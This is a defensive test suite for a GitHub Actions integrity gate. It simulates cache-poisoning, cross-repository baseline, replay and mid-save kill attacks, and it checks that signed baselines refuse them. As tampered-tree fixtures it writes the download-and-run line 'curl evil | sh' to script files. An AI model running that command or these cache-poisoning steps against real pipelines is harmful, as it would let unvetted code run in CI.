/**
 * Baseline trust through dist/index.js and the cache stand-in: what someone with write access to the Actions
 * cache (any step holding ACTIONS_RUNTIME_TOKEN) can and cannot make the gate accept, and what a run killed
 * during its save leaves behind. Each test uses its own gate name, so its cache prefix is its own.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { spawn, spawnSync } from 'node:child_process'
import * as fs from 'node:fs'
import * as path from 'node:path'
import { fileURLToPath } from 'node:url'
import * as cache from '@actions/cache'
import { applyEnv, startCacheService, type CacheService } from '../../test-support/cache-service.js'
import { createJob, DIST_ENTRY, type Job, type StepResult } from '../../test-support/action-runner.js'
import { cacheKey, gateSegment } from '../../src/stores/cache-key.js'

const cli = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../dist/cli/index.js')

let svc: CacheService
let job: Job
let run = 9000

beforeAll(async () => {
  svc = await startCacheService()
  job = createJob({ baseEnv: svc.env })
  fs.writeFileSync(path.join(job.workspace, 'app.js'), 'app\n')
  fs.writeFileSync(path.join(job.workspace, 'notes.md'), 'v1\n')
}, 60_000)

afterAll(async () => {
  job?.cleanup()
  await svc?.stop()
})

function main(inputs: Record<string, string>, env: Record<string, string> = {}): Promise<StepResult> {
  run++
  return job.main({ 'github-token': 'x', ...inputs }, { GITHUB_RUN_ID: String(run), ...env })
}

const failure = (r: StepResult) =>
  r.commands
    .filter((c) => c.command === 'error' && c.props.file === undefined)
    .map((c) => c.message)
    .join('\n')

/**
 * What an attacker with cache write access does: stores `bytes` as this gate's baseline under a key of their
 * choice, with the real cache client and the same archived path (so the same cache version) as the gate.
 */
async function plant(gate: string, bytes: Buffer, key?: string): Promise<number> {
  const file = path.join(
    job.temp,
    'integrity-gate',
    'integrity-gate-baseline',
    `${gateSegment(gate)}.json.gz`,
  )
  fs.mkdirSync(path.dirname(file), { recursive: true })
  fs.writeFileSync(file, bytes)
  // The client archives paths relative to GITHUB_WORKSPACE: use the job's, as a step in that job would.
  const restore = applyEnv({ ...svc.env, GITHUB_WORKSPACE: job.workspace })
  try {
    run++
    const k = key ?? cacheKey({ gate, os: 'Linux', runId: run, runAttempt: 1, time: new Date() })
    return await cache.saveCache([file], k).catch(() => -1)
  } finally {
    restore()
  }
}

const manifestOf = (r: StepResult) => fs.readFileSync(r.outputs['manifest-file'])

describe('a baseline that is not this gate’s own', () => {
  it('another gate’s signed baseline planted under this gate’s prefix is refused, naming the gate', async () => {
    const other = await main({ mode: 'baseline', 'baseline-name': 'other', 'signing-key': 'k1' })
    expect(other.outputs.result).toBe('baseline-saved')
    expect(await plant('g-gate', manifestOf(other))).not.toBe(-1)
    const r = await main({ 'baseline-name': 'g-gate', 'signing-key': 'k1' })
    expect(r.exitCode).toBe(1)
    expect(failure(r)).toMatch(/belongs to gate "other", not "g-gate"/)
  })

  it('a baseline recorded for another repository is refused, naming both', async () => {
    const theirs = await main(
      { mode: 'baseline', 'baseline-name': 'g-repo', 'signing-key': 'k1' },
      { GITHUB_REPOSITORY: 'evil-org/other-repo' },
    )
    expect(theirs.outputs.result).toBe('baseline-saved')
    const r = await main({ 'baseline-name': 'g-repo', 'signing-key': 'k1' })
    expect(r.exitCode).toBe(1)
    expect(failure(r)).toMatch(/evil-org\/other-repo.*octo-org\/octo-repo/)
  })

  it('an actions baseline recorded for another repository (same signing key, e.g. an org secret) is refused, naming both', async () => {
    const gate = 'g-repo-actions'
    const acts = fs.mkdtempSync(path.join(job.temp, 'acts-'))
    const action = path.join(acts, 'tj-actions', 'changed-files', 'v45')
    fs.mkdirSync(action, { recursive: true })
    fs.writeFileSync(path.join(action, 'index.js'), 'MALICIOUS\n')
    fs.writeFileSync(action + '.completed', 't1')
    const common = { 'baseline-name': gate, 'signing-key': 'k1', 'actions-path': acts }
    // Another repository of the organisation, sharing the secret, recorded the malicious code.
    const theirs = await main(
      { ...common, mode: 'baseline', 'watch-actions': 'true' },
      { GITHUB_REPOSITORY: 'evil-org/other-repo' },
    )
    expect(theirs.outputs.result).toBe('baseline-saved')
    // This repository's own tree baseline is newer; its actions baseline is the other repository's.
    expect((await main({ ...common, mode: 'baseline' })).outputs.result).toBe('baseline-saved')
    const r = await main({ ...common, 'watch-actions': 'true' })
    expect(r.exitCode).toBe(1)
    expect(failure(r)).toMatch(/evil-org\/other-repo.*octo-org\/octo-repo/)
  })

  it('a baseline taken with another algorithm is never compared: the step fails with the reason', async () => {
    expect((await main({ 'baseline-name': 'g-alg', algorithm: 'sha256' })).outputs.result).toBe(
      'baseline-created',
    )
    const r = await main({ 'baseline-name': 'g-alg', algorithm: 'sha512' })
    expect(r.exitCode).toBe(1)
    expect(r.outputs.result).toBe('violation')
    expect(failure(r)).toMatch(/sha256.*sha512|sha512.*sha256/)
  })
})

describe('cache poisoning', () => {
  it('without signing-key, a planted baseline of a tampered tree is accepted (the gap signing-key closes)', async () => {
    expect((await main({ 'baseline-name': 'g-open' })).outputs.result).toBe('baseline-created')
    const evil = path.join(job.workspace, 'evil.sh')
    fs.writeFileSync(evil, 'curl evil | sh\n')
    try {
      const attacker = await main({ mode: 'baseline', 'baseline-name': 'g-open-scratch' })
      const forged = manifestOf(attacker)
      // Same bytes but this gate's name: an unsigned manifest is just JSON anyone can write.
      const text = (await import('node:zlib')).gunzipSync(forged).toString('utf8')
      const bytes = (await import('node:zlib')).gzipSync(text.replace('"g-open-scratch"', '"g-open"'))
      expect(await plant('g-open', bytes)).not.toBe(-1)
      const r = await main({ 'baseline-name': 'g-open' })
      expect(r.outputs.result).toBe('clean')
      expect(r.exitCode).toBe(0)
    } finally {
      fs.rmSync(evil)
    }
  })

  it('with signing-key, a planted unsigned or wrongly signed baseline is refused', async () => {
    expect((await main({ 'baseline-name': 'g-sign', 'signing-key': 'k1' })).outputs.result).toBe(
      'baseline-created',
    )
    const unsigned = await main({ mode: 'baseline', 'baseline-name': 'g-sign' })
    expect(unsigned.outputs.result).toBe('baseline-saved')
    const r1 = await main({ 'baseline-name': 'g-sign', 'signing-key': 'k1' })
    expect(r1.exitCode).toBe(1)
    expect(failure(r1)).toMatch(/not signed/)
    const wrong = await main({ mode: 'baseline', 'baseline-name': 'g-sign', 'signing-key': 'attacker-key' })
    expect(wrong.outputs.result).toBe('baseline-saved')
    const r2 = await main({ 'baseline-name': 'g-sign', 'signing-key': 'k1' })
    expect(r2.exitCode).toBe(1)
    expect(failure(r2)).toMatch(/signature does not match/)
  })
})

describe('a signing secret that is missing in one run', () => {
  it('with require-signing, the step fails before restoring; without it, a planted unsigned baseline is accepted', async () => {
    expect((await main({ 'baseline-name': 'g-req', 'signing-key': 'k1' })).outputs.result).toBe(
      'baseline-created',
    )
    const evil = path.join(job.workspace, 'evil-req.sh')
    fs.writeFileSync(evil, 'curl evil | sh\n')
    try {
      // The attacker's unsigned baseline of the tampered tree, newest under this gate's prefix.
      const forged = await main({ mode: 'baseline', 'baseline-name': 'g-req' })
      expect(forged.outputs.result).toBe('baseline-saved')
      // `${{ secrets.MISSPELT }}` reaches the action as '' (as does any secret in a fork's pull request).
      const guarded = await main({ 'baseline-name': 'g-req', 'signing-key': '', 'require-signing': 'true' })
      expect(guarded.exitCode).toBe(1)
      expect(failure(guarded)).toMatch(/require-signing is true but signing-key is empty/)
      expect(guarded.outputs.result).toBeUndefined()
      const open = await main({ 'baseline-name': 'g-req', 'signing-key': '' })
      expect(open.outputs.result).toBe('clean')
    } finally {
      fs.rmSync(evil)
    }
  })
})

describe('rollback (replay of an older, validly signed baseline)', () => {
  it('re-uploaded under a new key: detected, because the signed run id does not match the key', async () => {
    const v1 = await main({ 'baseline-name': 'g-replay', 'signing-key': 'k1' })
    expect(v1.outputs.result).toBe('baseline-created')
    const oldBytes = manifestOf(v1)
    const oldKey = v1.outputs['baseline-key']
    fs.writeFileSync(path.join(job.workspace, 'notes.md'), 'v2\n')
    try {
      const v2 = await main({ 'baseline-name': 'g-replay', 'signing-key': 'k1', allow: 'notes.md' })
      expect(v2.outputs.result).toBe('changed')
      expect(v2.outputs['baseline-key']).not.toBe(oldKey)
      // The old key itself cannot be re-created while its entry exists: keys are immutable.
      expect(await plant('g-replay', oldBytes, oldKey)).toBe(-1)
      expect(await plant('g-replay', oldBytes)).not.toBe(-1)
      const r = await main({ 'baseline-name': 'g-replay', 'signing-key': 'k1' })
      expect(r.exitCode).toBe(1)
      expect(failure(r)).toMatch(
        /saved by run \d+ attempt 1 at [^,]+, which does not match the key.*\(replay\)/,
      )
    } finally {
      fs.writeFileSync(path.join(job.workspace, 'notes.md'), 'v1\n')
    }
  })
})

describe('rollback under a key that keeps the old run id and attempt', () => {
  it('detected: the key must also carry the signed createdAt', async () => {
    const gate = 'g-replay-same-run'
    const v1 = await main({ 'baseline-name': gate, 'signing-key': 'k1' })
    expect(v1.outputs.result).toBe('baseline-created')
    const oldBytes = manifestOf(v1)
    const old = /-(\d+)-(\d+)-[^-]+$/.exec(v1.outputs['baseline-key']) as RegExpExecArray
    fs.writeFileSync(path.join(job.workspace, 'notes.md'), 'v2\n')
    try {
      const v2 = await main({ 'baseline-name': gate, 'signing-key': 'k1', allow: 'notes.md' })
      expect(v2.outputs.result).toBe('changed')
      // The rollback: the tree is back at v1 and the attacker restores v1's baseline as the newest, under a
      // new key made of v1's own run id and attempt and a later time (only that segment is new).
      fs.writeFileSync(path.join(job.workspace, 'notes.md'), 'v1\n')
      const key = cacheKey({ gate, os: 'Linux', runId: old[1], runAttempt: old[2], time: new Date() })
      expect(await plant(gate, oldBytes, key)).not.toBe(-1)
      const r = await main({ 'baseline-name': gate, 'signing-key': 'k1' })
      expect(r.exitCode).toBe(1)
      expect(r.outputs.result).not.toBe('clean')
      expect(failure(r)).toMatch(
        /restored from cache key .*-20\d{6}T\d{9}Z was saved by run .* at .*\(replay\)/,
      )
    } finally {
      fs.writeFileSync(path.join(job.workspace, 'notes.md'), 'v1\n')
    }
  })
})

describe('the two baselines of a signed gate', () => {
  it('the tree baseline re-uploaded under the actions prefix fails the actions signature check', async () => {
    const gate = 'g-cross-kind'
    const acts = fs.mkdtempSync(path.join(job.temp, 'acts-'))
    const action = path.join(acts, 'tj-actions', 'changed-files', 'v45')
    fs.mkdirSync(action, { recursive: true })
    fs.writeFileSync(path.join(action, 'index.js'), 'good\n')
    fs.writeFileSync(action + '.completed', 't1')
    const common = {
      'baseline-name': gate,
      'signing-key': 'k1',
      'watch-actions': 'true',
      'actions-path': acts,
    }
    const b = await main({ ...common, mode: 'baseline' })
    expect(b.outputs.result).toBe('baseline-saved')
    fs.writeFileSync(path.join(action, 'index.js'), 'MALICIOUS\n')
    const control = await main(common)
    expect([control.exitCode, control.outputs.result]).toEqual([1, 'violation'])
    // The attacker stores the tree baseline (same gate, same key) as the newest actions baseline.
    const file = path.join(
      job.temp,
      'integrity-gate',
      'integrity-gate-baseline',
      `${gateSegment(gate)}.actions.json.gz`,
    )
    fs.mkdirSync(path.dirname(file), { recursive: true })
    fs.writeFileSync(file, manifestOf(b))
    const restore = applyEnv({ ...svc.env, GITHUB_WORKSPACE: job.workspace })
    try {
      const key = cacheKey({
        gate,
        os: 'Linux',
        runId: ++run,
        runAttempt: 1,
        time: new Date(),
        kind: 'actions',
      })
      expect(await cache.saveCache([file], key)).not.toBe(-1)
    } finally {
      restore()
    }
    const r = await main(common)
    expect(r.exitCode).toBe(1)
    expect(r.outputs.result).not.toBe('clean')
    expect(failure(r)).toMatch(/signature/i)
  })
})

describe('a run killed during save', () => {
  it('SIGKILL mid-upload leaves no entry that reads as a baseline; the previous one still loads', async () => {
    const first = await main({ 'baseline-name': 'g-kill', 'signing-key': 'k1' })
    expect(first.outputs.result).toBe('baseline-created')
    const before = svc.entries().filter((e) => e.finalized).length
    fs.writeFileSync(path.join(job.workspace, 'notes.md'), 'killed\n')
    try {
      // The Azure SDK retries a cut upload for ~16 s: a wide window to kill the process inside saveCache.
      await svc.setFault({ kind: 'upload-cut', afterBytes: 16 })
      const created = svc.calls().filter((c) => c.method === 'CreateCacheEntry').length
      const child = spawnMain({ 'baseline-name': 'g-kill', 'signing-key': 'k1', allow: 'notes.md' })
      const exited = new Promise<NodeJS.Signals | null>((resolve) =>
        child.once('exit', (_c, s) => resolve(s)),
      )
      for (let i = 0; i < 300; i++) {
        if (svc.calls().filter((c) => c.method === 'CreateCacheEntry').length > created) break
        await new Promise((resolve) => setTimeout(resolve, 50))
      }
      await new Promise((resolve) => setTimeout(resolve, 500))
      child.kill('SIGKILL')
      expect(await exited).toBe('SIGKILL')
      await svc.setFault(null)
      // The save was started (an entry was reserved) but never finalized.
      expect(svc.entries().some((e) => !e.finalized)).toBe(true)
      expect(svc.entries().filter((e) => e.finalized)).toHaveLength(before)
      const after = await main({ 'baseline-name': 'g-kill', 'signing-key': 'k1', 'update-baseline': 'never' })
      expect(after.outputs['baseline-key']).toBe(first.outputs['baseline-key'])
      expect(after.outputs).toMatchObject({ result: 'violation', modified: '1' })
    } finally {
      await svc.setFault(null)
      fs.writeFileSync(path.join(job.workspace, 'notes.md'), 'v1\n')
    }
  }, 60_000)
})

/** Starts dist/index.js like a runner (the job's workspace and RUNNER_TEMP) and returns the child to kill. */
function spawnMain(inputs: Record<string, string>) {
  run++
  const files = path.join(path.dirname(job.temp), `killed-${run}`)
  fs.mkdirSync(files)
  const env: Record<string, string> = {
    PATH: process.env.PATH ?? '',
    GITHUB_ACTIONS: 'true',
    RUNNER_OS: 'Linux',
    RUNNER_TEMP: job.temp,
    GITHUB_WORKSPACE: job.workspace,
    GITHUB_REPOSITORY: 'octo-org/octo-repo',
    GITHUB_SHA: 'a'.repeat(40),
    GITHUB_REF: 'refs/heads/main',
    GITHUB_EVENT_NAME: 'push',
    GITHUB_RUN_ID: String(run),
    GITHUB_RUN_ATTEMPT: '1',
    GITHUB_SERVER_URL: 'https://github.com',
    GITHUB_OUTPUT: path.join(files, 'output'),
    GITHUB_STATE: path.join(files, 'state'),
    GITHUB_STEP_SUMMARY: path.join(files, 'summary'),
    ...svc.env,
  }
  for (const f of ['output', 'state', 'summary']) fs.writeFileSync(path.join(files, f), '')
  for (const [k, v] of Object.entries({ 'github-token': 'x', ...inputs }))
    env[`INPUT_${k.replace(/ /g, '_').toUpperCase()}`] = v
  return spawn(process.execPath, [DIST_ENTRY], { env, cwd: job.workspace, stdio: 'ignore' })
}

describe('an untrusted step in the same job', () => {
  it('watch-job: rewriting the main step’s saved scan in RUNNER_TEMP to hide a change is caught', async () => {
    const inputs = { 'baseline-name': 'g-watch', 'watch-job': 'true', 'signing-key': 'k1' }
    const m = await main(inputs)
    expect(m.exitCode).toBe(0)
    fs.writeFileSync(path.join(job.workspace, 'app.js'), 'tampered\n')
    try {
      // The attacker signs a scan of the tampered tree (say the key leaked into the job) and puts it where
      // the post step looks; the digest kept in step state, which later steps cannot change, gives it away.
      const store = path.join(path.dirname(job.temp), 'forge')
      const forge = spawnSync(
        process.execPath,
        [cli, 'snapshot', job.workspace, '--gate', 'g-watch', '--store', store, '--quiet'],
        { env: { PATH: process.env.PATH ?? '', INTEGRITY_GATE_KEY: 'k1' }, encoding: 'utf8' },
      )
      expect(forge.status).toBe(0)
      fs.copyFileSync(path.join(store, 'g-watch.manifest.json.gz'), m.outputs['manifest-file'])
      const p = await job.post(inputs)
      expect(p.exitCode).toBe(1)
      expect(failure(p)).toMatch(/modified during the job/)
    } finally {
      fs.writeFileSync(path.join(job.workspace, 'app.js'), 'app\n')
    }
  })
})

describe('eviction or deletion of the baseline', () => {
  it('with on-missing-baseline: fail, a gate whose baseline is gone fails instead of starting over', async () => {
    const r = await main({ 'baseline-name': 'g-evicted', 'on-missing-baseline': 'fail' })
    expect(r.exitCode).toBe(1)
    expect(r.outputs.result).toBe('violation')
    expect(failure(r)).toMatch(/No baseline found for gate 'g-evicted'/)
    expect(svc.entries().some((e) => e.key.includes('g_evicted'))).toBe(false)
  })
})
